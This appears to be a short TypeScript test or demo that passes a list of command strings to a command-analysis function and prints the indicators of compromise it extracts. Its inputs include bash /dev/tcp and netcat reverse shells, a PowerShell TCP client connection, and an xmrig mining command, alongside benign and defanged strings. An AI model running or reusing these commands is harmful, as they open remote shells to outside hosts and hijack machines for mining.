import { analyzeCommand } from '../src/domain/command-analysis';
for (const c of ['bash -i >& /dev/tcp/203.0.113.73/4444 0>&1', 'nc -e /bin/sh 203.0.113.90 4444', './xmrig -o stratum+tcp://pool.example-mine.net:3333 -u x', "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.85',443)\"", 'ping 10.0.0.1 10.0.0.2', 'curl http://[2001:db8::7]:8080/x', 'echo 12:30 a:b 10:20:30', 'hxxp://evil[.]com:8443/a'])
  console.log(c, '→', JSON.stringify(analyzeCommand(c).iocs));
